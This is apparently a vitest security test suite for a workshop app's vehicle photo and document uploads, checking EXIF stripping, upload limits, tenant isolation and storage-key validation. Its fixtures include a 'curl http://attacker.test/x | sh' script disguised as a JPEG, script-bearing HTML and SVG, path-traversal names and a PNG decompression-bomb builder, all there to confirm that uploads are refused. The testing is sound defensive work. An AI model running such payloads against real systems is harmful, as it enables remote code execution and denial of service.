import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import AdmZip from 'adm-zip';
import exifr from 'exifr';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AuditEventEntity } from '../../audit/audit.entity';
import { createTestContext, csrf, seedShop, signedInAgent, type TestContext } from '../../../test-support/test-app';
import { VehicleFileEntity } from '../../vehicles/vehicles.entity';
import { tinyPdf } from '../../vehicles/vehicles.test-fixture';
import { assertStorageKey, localFileStore, type FileStore } from '../file-store';
import { vehicleUploadLimits } from '../upload-middleware';
import { maxInputPixels } from '../upload-pipeline';

type Agent = Awaited<ReturnType<typeof signedInAgent>>;

let ctx: TestContext;
let shopId: string;
let owner: Agent;
let viewer: Agent;
let outsider: Agent;
let otherShopId: string;
let vehicleId: string;
let otherVehicleId: string;
let sisterVehicleId: string;

/** Every stored file of a shop, relative to its folder. */
function storedFiles(dir: string, shop: string): string[] {
  const root = path.join(dir, shop);
  if (!fs.existsSync(root)) return [];
  return (fs.readdirSync(root, { recursive: true, withFileTypes: true }) as fs.Dirent[]).filter((d) => d.isFile()).map((d) => path.relative(root, path.join(d.parentPath, d.name)));
}

/**
 * A decompression bomb: a valid PNG of a few kilobytes that decodes to width × height pixels
 * (one-bit grey, all black), built by hand because no image library will make one this size cheaply.
 */
function pngBomb(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8); // bit depth 1, greyscale, deflate, no filter, no interlace
  // Each row: filter byte 0, then width bits of zero.
  const raw = Buffer.alloc(height * (1 + Math.ceil(width / 8)));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', zlib.deflateSync(raw, { level: 9 })), chunk('IEND', Buffer.alloc(0))]);
}

/** A JPEG carrying a GPS position (51.5 N, 0.1167 W) and a camera make in its EXIF. */
async function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 120, height: 80, channels: 3, background: '#7a5230' } })
    .jpeg()
    .withExif({ IFD0: { Make: 'Fixture Camera' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 0/1' } })
    .toBuffer();
}

const files = (id = vehicleId) => `/api/shops/${shopId}/vehicles/${id}/files`;
const rowsOf = (id: string) => ctx.db.reader.count(VehicleFileEntity, { where: { vehicleId: id } });

beforeAll(async () => {
  ctx = await createTestContext();
  const shop = await seedShop(ctx, ['owner', 'viewer']);
  const other = await seedShop(ctx, ['owner']);
  shopId = shop.shop.id;
  otherShopId = other.shop.id;
  owner = await signedInAgent(ctx.app, shop.byRole.owner.email, shop.password);
  viewer = await signedInAgent(ctx.app, shop.byRole.viewer.email, shop.password);
  outsider = await signedInAgent(ctx.app, other.byRole.owner.email, other.password);
  vehicleId = (await owner.post(`/api/shops/${shopId}/vehicles`).set(csrf).send({ kind: 'customer', marque: 'Corran', model: 'Uploads' })).body.id;
  sisterVehicleId = (await owner.post(`/api/shops/${shopId}/vehicles`).set(csrf).send({ kind: 'customer', marque: 'Corran', model: 'Sister' })).body.id;
  otherVehicleId = (await outsider.post(`/api/shops/${otherShopId}/vehicles`).set(csrf).send({ kind: 'customer', marque: 'Velmark', model: 'Foreign' })).body.id;
});
afterAll(() => ctx.close());

describe('photos', () => {
  it('re-encodes a photo without its location data, keeps it upright, and makes a thumbnail', async () => {
    const original = await jpegWithGps();
    // The fixture really carries a position, so its absence later means something.
    expect(await exifr.gps(original)).toMatchObject({ latitude: 51.5 });
    const res = await owner.post(files()).set(csrf).field('caption', 'Left side on arrival').attach('files', original, { filename: 'left side.jpg', contentType: 'image/jpeg' });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const [file] = res.body.files;
    expect(file).toMatchObject({ kind: 'photo', mediaType: 'image/jpeg', originalName: 'left side.jpg', width: 120, height: 80, caption: 'Left side on arrival', hasThumbnail: true });

    const content = await viewer.get(`${files()}/${file.id}/content`).buffer(true);
    expect(content.status).toBe(200);
    expect(content.headers['content-type']).toBe('image/jpeg');
    expect(content.headers['x-content-type-options']).toBe('nosniff');
    expect(content.headers['content-disposition']).toMatch(/^inline; filename="left side.jpg"/);
    expect(content.headers['content-security-policy']).toMatch(/sandbox/);
    expect(await exifr.gps(content.body as Buffer)).toBeUndefined();
    expect(await exifr.parse(content.body as Buffer)).toBeUndefined();

    const thumb = await viewer.get(`${files()}/${file.id}/thumbnail`).buffer(true);
    expect(thumb.status).toBe(200);
    const meta = await sharp(thumb.body as Buffer).metadata();
    expect(meta.format).toBe('jpeg');
    expect(await exifr.gps(thumb.body as Buffer)).toBeUndefined();

    const download = await viewer.get(`${files()}/${file.id}/content?download=1`);
    expect(download.headers['content-disposition']).toMatch(/^attachment;/);
    expect(await ctx.db.reader.count(AuditEventEntity, { where: { action: 'vehicle.file_added', entityId: vehicleId } })).toBeGreaterThan(0);
  });

  it('turns a photo upright from its EXIF orientation before the orientation tag is dropped', async () => {
    // Orientation 6: stored landscape, shown rotated 90° clockwise (portrait).
    const sideways = await sharp({ create: { width: 60, height: 40, channels: 3, background: '#336699' } }).jpeg().withMetadata({ orientation: 6 }).toBuffer();
    const res = await owner.post(files()).set(csrf).attach('files', sideways, 'sideways.jpg');
    expect(res.status).toBe(201);
    expect(res.body.files[0]).toMatchObject({ width: 40, height: 60 });
  });

  it('stores PNG and WebP photos as JPEG under server-made names, never the uploaded name', async () => {
    const png = await sharp({ create: { width: 30, height: 20, channels: 4, background: { r: 10, g: 20, b: 30, alpha: 0.5 } } }).png().toBuffer();
    const webp = await sharp({ create: { width: 30, height: 20, channels: 3, background: '#aa2200' } }).webp().toBuffer();
    const res = await owner.post(files()).set(csrf).attach('files', png, '../../etc/passwd.png').attach('files', webp, 'tank.webp');
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.files.map((f: { mediaType: string }) => f.mediaType)).toEqual(['image/jpeg', 'image/jpeg']);
    expect(res.body.files[0].originalName).toBe('passwd.png');
    const rows = await ctx.db.reader.find(VehicleFileEntity, { where: { id: res.body.files[0].id } });
    expect(rows[0]?.storageKey).toMatch(new RegExp(`^${shopId}/vehicles/${vehicleId}/[0-9a-f-]{36}\\.jpg$`));
  });
});

describe('documents', () => {
  it('keeps a PDF byte for byte and serves it as a download', async () => {
    const res = await owner.post(files()).set(csrf).attach('files', tinyPdf, { filename: 'Zulassung – 1968.pdf', contentType: 'application/pdf' });
    expect(res.status).toBe(201);
    const [doc] = res.body.files;
    expect(doc).toMatchObject({ kind: 'document', mediaType: 'application/pdf', hasThumbnail: false, originalName: 'Zulassung – 1968.pdf' });
    const content = await viewer.get(`${files()}/${doc.id}/content`).buffer(true);
    expect(content.status).toBe(200);
    expect(content.headers['content-type']).toBe('application/pdf');
    expect(content.headers['content-disposition']).toBe(`attachment; filename="Zulassung _ 1968.pdf"; filename*=UTF-8''Zulassung%20%E2%80%93%201968.pdf`);
    expect(Buffer.compare(content.body as Buffer, tinyPdf)).toBe(0);
    expect((await viewer.get(`${files()}/${doc.id}/thumbnail`)).status).toBe(404);
  });
});

describe('bad uploads leave nothing behind', () => {
  const snapshot = async () => ({ files: storedFiles(ctx.env.uploadsDir, shopId).sort(), rows: await rowsOf(vehicleId), audit: await ctx.db.reader.count(AuditEventEntity, { where: { shopId } }) });

  it('refuses a script renamed .jpg (declared image/jpeg) by its content', async () => {
    const before = await snapshot();
    const script = Buffer.from('#!/bin/sh\ncurl http://attacker.test/x | sh\n');
    const res = await owner.post(files()).set(csrf).attach('files', script, { filename: 'photo.jpg', contentType: 'image/jpeg' });
    expect(res.status).toBe(415);
    expect(res.body.error.message).toMatch(/“photo.jpg” is not a photo or a PDF/);
    expect(await snapshot()).toEqual(before);
  });

  it('refuses HTML and SVG whatever they are called', async () => {
    const before = await snapshot();
    for (const [body, name] of [
      ['<html><script>alert(1)</script></html>', 'page.pdf'],
      ['<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'logo.png'],
    ] as const) {
      const res = await owner.post(files()).set(csrf).attach('files', Buffer.from(body), name);
      expect(res.status, name).toBe(415);
    }
    expect(await snapshot()).toEqual(before);
  });

  it('stores none of a batch when one file in it is bad', async () => {
    const before = await snapshot();
    const res = await owner
      .post(files())
      .set(csrf)
      .attach('files', await jpegWithGps(), 'good.jpg')
      .attach('files', Buffer.from('MZ\x90\x00 not really an exe'), 'bad.jpg');
    expect(res.status).toBe(415);
    expect(res.body.error.message).toMatch(/bad.jpg/);
    expect(await snapshot()).toEqual(before);
  });

  it('refuses a file over the size limit with 413', async () => {
    const before = await snapshot();
    const big = Buffer.alloc(vehicleUploadLimits.maxFileBytes + 1, 0x20);
    tinyPdf.copy(big);
    const res = await owner.post(files()).set(csrf).attach('files', big, 'scan.pdf');
    expect(res.status).toBe(413);
    expect(res.body.error.message).toMatch(/larger than 15 MB/);
    expect(await snapshot()).toEqual(before);
  });

  it('refuses more files than the count limit', async () => {
    const before = await snapshot();
    let req = owner.post(files()).set(csrf);
    for (let i = 0; i <= vehicleUploadLimits.maxFiles; i++) req = req.attach('files', tinyPdf, `doc-${i}.pdf`);
    const res = await req;
    expect(res.status).toBe(400);
    expect(res.body.error.message).toBe(`Upload at most ${vehicleUploadLimits.maxFiles} files at a time.`);
    expect(await snapshot()).toEqual(before);
  });

  it('refuses a decompression bomb (a small PNG of 100 megapixels) with a clear 400, storing nothing', async () => {
    const bomb = pngBomb(10_000, 10_000);
    expect(bomb.length).toBeLessThan(vehicleUploadLimits.maxFileBytes);
    // A well-formed image, so the refusal is for its size in pixels, not for damage.
    expect(await sharp(bomb).metadata()).toMatchObject({ format: 'png', width: 10_000, height: 10_000 });
    expect(10_000 * 10_000).toBeGreaterThan(maxInputPixels);
    const before = await snapshot();
    const res = await owner.post(files()).set(csrf).attach('files', bomb, 'bomb.png');
    expect(res.status, JSON.stringify(res.body)).toBe(400);
    expect(res.body.error.message).toMatch(/too large in pixels/);
    expect(await snapshot()).toEqual(before);
  });

  it('refuses an empty request, an empty file and a damaged image', async () => {
    expect((await owner.post(files()).set(csrf).field('caption', 'nothing')).status).toBe(400);
    expect((await owner.post(files()).set(csrf).attach('files', Buffer.alloc(0), 'empty.pdf')).status).toBe(400);
    const jpeg = await jpegWithGps();
    const damaged = Buffer.concat([jpeg.subarray(0, 200), Buffer.alloc(200, 0)]);
    const res = await owner.post(files()).set(csrf).attach('files', damaged, 'damaged.jpg');
    expect(res.status).toBe(400);
    expect(res.body.error.message).toMatch(/could not be read/);
  });

  it('removes the bytes already written when storing fails part-way (no file, no row)', async () => {
    const dir = fs.mkdtempSync(path.join(ctx.env.uploadsDir, '..', 'failing-store-'));
    const real = localFileStore(dir);
    let puts = 0;
    const failing: FileStore = { ...real, put: async (key, data) => (++puts === 3 ? Promise.reject(new Error('disk full')) : real.put(key, data)) };
    const local = await createTestContext({ deps: { fileStore: failing } });
    try {
      const shop = await seedShop(local, ['owner']);
      const agent = await signedInAgent(local.app, shop.byRole.owner.email, shop.password);
      const v = await agent.post(`/api/shops/${shop.shop.id}/vehicles`).set(csrf).send({ kind: 'customer', marque: 'Corran', model: 'Full disk' });
      // Photo + thumbnail are puts 1 and 2; the PDF (put 3) fails.
      const res = await agent.post(`/api/shops/${shop.shop.id}/vehicles/${v.body.id}/files`).set(csrf).attach('files', await jpegWithGps(), 'a.jpg').attach('files', tinyPdf, 'b.pdf');
      expect(res.status).toBe(500);
      expect(storedFiles(dir, shop.shop.id)).toEqual([]);
      expect(await local.db.reader.count(VehicleFileEntity, { where: { vehicleId: v.body.id } })).toBe(0);
    } finally {
      await local.close();
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('access to files', () => {
  let photoId: string;
  beforeAll(async () => {
    photoId = (await owner.post(files()).set(csrf).attach('files', await jpegWithGps(), 'access.jpg')).body.files[0].id;
  });

  it('another shop’s file by id is 404, also through its own vehicle id', async () => {
    expect((await outsider.get(`/api/shops/${otherShopId}/vehicles/${otherVehicleId}/files/${photoId}/content`)).status).toBe(404);
    expect((await outsider.get(`${files()}/${photoId}/content`)).status).toBe(404);
    expect((await outsider.get(`${files()}/${photoId}/thumbnail`)).status).toBe(404);
    expect((await outsider.delete(`/api/shops/${otherShopId}/vehicles/${otherVehicleId}/files/${photoId}`).set(csrf)).status).toBe(404);
  });

  it('a file asked for under another vehicle of the same shop is 404', async () => {
    expect((await owner.get(`${files(sisterVehicleId)}/${photoId}/content`)).status).toBe(404);
  });

  it('uploading to another shop’s vehicle is 404 and stores nothing', async () => {
    const before = storedFiles(ctx.env.uploadsDir, otherShopId).length;
    const res = await owner.post(`/api/shops/${shopId}/vehicles/${otherVehicleId}/files`).set(csrf).attach('files', tinyPdf, 'x.pdf');
    expect(res.status).toBe(404);
    expect(storedFiles(ctx.env.uploadsDir, otherShopId).length).toBe(before);
    expect(storedFiles(ctx.env.uploadsDir, shopId).some((f) => f.includes(otherVehicleId))).toBe(false);
  });

  it('a viewer reads files but cannot upload or remove them', async () => {
    expect((await viewer.get(`${files()}/${photoId}/content`)).status).toBe(200);
    expect((await viewer.post(files()).set(csrf).attach('files', tinyPdf, 'x.pdf')).status).toBe(403);
    expect((await viewer.delete(`${files()}/${photoId}`).set(csrf)).status).toBe(403);
  });

  it('removing a file deletes its row, its bytes and its thumbnail, with an audit event', async () => {
    const row = await ctx.db.reader.findOneByOrFail(VehicleFileEntity, { id: photoId });
    const res = await owner.delete(`${files()}/${photoId}`).set(csrf);
    expect(res.status).toBe(204);
    expect(fs.existsSync(path.join(ctx.env.uploadsDir, row.storageKey))).toBe(false);
    expect(fs.existsSync(path.join(ctx.env.uploadsDir, row.thumbnailKey ?? 'none'))).toBe(false);
    expect((await owner.get(`${files()}/${photoId}/content`)).status).toBe(404);
    expect(await ctx.db.reader.count(AuditEventEntity, { where: { action: 'vehicle.file_removed', entityId: vehicleId } })).toBe(1);
  });
});

describe('the shop export', () => {
  it('carries the vehicles, customers and uploaded files', async () => {
    await owner.post(`/api/shops/${shopId}/customers`).set(csrf).send({ name: 'Export Customer' });
    const uploaded = await owner.post(files()).set(csrf).attach('files', tinyPdf, 'export.pdf');
    const row = await ctx.db.reader.findOneByOrFail(VehicleFileEntity, { id: uploaded.body.files[0].id });
    const res = await owner.get(`/api/shops/${shopId}/export.zip`).buffer(true).parse((r, cb) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => cb(null, Buffer.concat(chunks)));
    });
    expect(res.status).toBe(200);
    const zip = new AdmZip(res.body as Buffer);
    const names = zip.getEntries().map((e) => e.entryName);
    expect(names).toEqual(expect.arrayContaining(['tables/vehicles.csv', 'tables/customers.csv', 'tables/vehicle_files.csv', 'tables/odometer_readings.csv', 'tables/vehicle_status_changes.csv']));
    expect(zip.readAsText('tables/customers.csv')).toContain('Export Customer');
    expect(zip.readAsText('tables/vehicles.csv')).toContain('Uploads');
    const entry = `uploads/${row.storageKey.slice(shopId.length + 1)}`;
    expect(names).toContain(entry);
    expect(Buffer.compare(zip.readFile(entry) ?? Buffer.alloc(0), tinyPdf)).toBe(0);
  });
});

describe('file store', () => {
  it('accepts only server-made keys and never leaves its folder', async () => {
    for (const bad of ['../x.jpg', 'a/../../x.jpg', '/etc/passwd', 'A/B.jpg', 'a/b', 'a\\b.jpg', '']) expect(() => assertStorageKey(bad), bad).toThrow();
    expect(() => assertStorageKey('0a1b/vehicles/2c3d/4e5f.thumb.jpg')).not.toThrow();
    const store = localFileStore(path.join(ctx.env.uploadsDir, 'store-test'));
    await store.put('s1/a.pdf', tinyPdf);
    await expect(store.put('s1/a.pdf', tinyPdf)).rejects.toThrow(/already stored/);
    expect(await store.exists('s1/a.pdf')).toBe(true);
    await store.remove('s1/a.pdf');
    await store.remove('s1/a.pdf');
    expect(await store.exists('s1/a.pdf')).toBe(false);
    await expect(store.read('s1/a.pdf')).rejects.toThrow(/No stored file/);
  });

  it('streams a stored file and lists keys below a prefix, skipping half-written and stray files', async () => {
    const dir = path.join(ctx.env.uploadsDir, 'list-test');
    const store = localFileStore(dir);
    await store.put('s2/vehicles/v1/b.pdf', tinyPdf);
    await store.put('s2/vehicles/v1/a.jpg', Buffer.from('a'));
    await store.put('s2/jobs/j1/c.pdf', Buffer.from('c'));
    await store.put('s3/d.pdf', Buffer.from('d'));
    // What an interrupted put leaves behind, and a file no server-made key names.
    fs.writeFileSync(path.join(dir, 's2', 'vehicles', 'v1', 'e.pdf.0b8c6f2e-1f0e-4c55-9d3a-2f5c8f1d9a7b.part'), 'half');
    fs.writeFileSync(path.join(dir, 's2', 'Notes.TXT'), 'stray');
    const list = async (prefix: string) => {
      const keys: string[] = [];
      for await (const key of store.list(prefix)) keys.push(key);
      return keys;
    };
    expect(await list('s2')).toEqual(['s2/jobs/j1/c.pdf', 's2/vehicles/v1/a.jpg', 's2/vehicles/v1/b.pdf']);
    expect(await list('s2/vehicles')).toEqual(['s2/vehicles/v1/a.jpg', 's2/vehicles/v1/b.pdf']);
    expect(await list('')).toEqual(['s2/jobs/j1/c.pdf', 's2/vehicles/v1/a.jpg', 's2/vehicles/v1/b.pdf', 's3/d.pdf']);
    expect(await list('s9')).toEqual([]);
    for (const bad of ['..', 's2/..', '/etc', 's2/', 'S2']) await expect(list(bad), bad).rejects.toThrow(/Not a storage prefix/);

    const chunks: Buffer[] = [];
    for await (const chunk of await store.stream('s2/vehicles/v1/b.pdf')) chunks.push(chunk as Buffer);
    expect(Buffer.compare(Buffer.concat(chunks), tinyPdf)).toBe(0);
    await expect(store.stream('s2/missing.pdf')).rejects.toThrow(/No stored file/);
    await expect(store.stream('../outside.pdf')).rejects.toThrow(/Not a storage key/);
  });
});
